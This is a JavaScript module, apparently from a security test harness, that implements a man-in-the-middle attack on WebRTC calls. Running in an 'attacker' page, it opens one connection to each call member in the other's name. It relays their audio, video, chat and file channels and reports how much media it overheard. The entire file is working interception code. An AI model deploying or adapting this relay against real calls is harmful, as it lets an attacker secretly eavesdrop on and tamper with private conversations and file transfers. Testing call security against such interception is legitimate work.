/**
 * Runs in the page of the attacker: two connections, one to each of two
 * members, in the name of the other. It passes media and data channels on, and
 * measures what it hears and sees.
 *
 * @module
 */
(() => {
  const KINDS = ["audio", "video", "video", "audio"];
  const CHANNELS = ["chat", "files"];

  /** A connection to one member, with everything that its page expects. */
  function makeLeg() {
    const pc = new RTCPeerConnection({ bundlePolicy: "max-bundle" });
    const channels = CHANNELS.map((label, id) =>
      pc.createDataChannel(label, { negotiated: true, id })
    );
    return { pc, channels };
  }

  function joinChannels(one, other) {
    for (const [i, channel] of one.channels.entries()) {
      const waiting = [];
      const target = other.channels[i];
      channel.binaryType = "arraybuffer";
      channel.onmessage = ({ data }) => {
        if (target.readyState === "open") target.send(data);
        else waiting.push(data);
      };
      target.addEventListener("open", () => {
        for (const data of waiting.splice(0)) target.send(data);
      });
    }
  }

  /** The description with all candidates in it. */
  async function describe({ pc }) {
    while (pc.iceGatheringState !== "complete") {
      await new Promise((resolve) =>
        pc.addEventListener("icegatheringstatechange", resolve, { once: true })
      );
    }
    return { type: pc.localDescription.type, sdp: pc.localDescription.sdp };
  }

  const context = new AudioContext();

  /**
   * The track to send for a received one. Chromium forwards the sound of
   * another connection only while an element plays it.
   */
  function forward(track) {
    if (track.kind === "video") return track;
    const stream = new MediaStream([track]);
    const element = new Audio();
    element.srcObject = stream;
    void element.play();
    const target = context.createMediaStreamDestination();
    context.createMediaStreamSource(stream).connect(target);
    return target.stream.getTracks()[0];
  }

  const caller = makeLeg();
  const callee = makeLeg();
  joinChannels(caller, callee);
  joinChannels(callee, caller);
  const legs = { caller, callee };

  const early = { caller: [], callee: [] };
  async function addEarly(side) {
    for (const candidate of early[side].splice(0)) {
      await legs[side].pc.addIceCandidate(candidate).catch(() => {});
    }
  }

  globalThis.maruMiddle = {
    /** Takes the caller's offer; resolves to the one for the callee. */
    async offer(description) {
      await caller.pc.setRemoteDescription(description);
      await addEarly("caller");
      const received = caller.pc.getTransceivers().map(({ receiver }) =>
        forward(receiver.track)
      );
      for (const [i, kind] of KINDS.entries()) {
        const track = received[i];
        const stream = new MediaStream(track ? [track] : []);
        callee.pc.addTransceiver(track ?? kind, {
          direction: "sendrecv",
          streams: [stream],
        });
      }
      await callee.pc.setLocalDescription();
      return await describe(callee);
    },
    /** Takes the callee's answer; resolves to the one for the caller. */
    async answer(description) {
      await callee.pc.setRemoteDescription(description);
      await addEarly("callee");
      const received = callee.pc.getTransceivers();
      for (const [i, transceiver] of caller.pc.getTransceivers().entries()) {
        transceiver.direction = "sendrecv";
        const track = received[i]?.receiver.track;
        if (track) await transceiver.sender.replaceTrack(forward(track));
      }
      await caller.pc.setLocalDescription();
      return await describe(caller);
    },
    async candidate({ side, candidate }) {
      early[side].push(candidate ?? undefined);
      if (legs[side].pc.remoteDescription) await addEarly(side);
    },
    /** What arrived from each side. */
    async overheard() {
      const sides = [];
      for (const { pc } of [caller, callee]) {
        const report = [...(await pc.getStats()).values()];
        const inbound = report.filter(({ type }) => type === "inbound-rtp");
        const sum = (key) =>
          inbound.reduce((total, entry) => total + (entry[key] ?? 0), 0);
        sides.push({
          frames: sum("framesDecoded"),
          energy: sum("totalAudioEnergy"),
        });
      }
      return sides;
    },
  };
})();
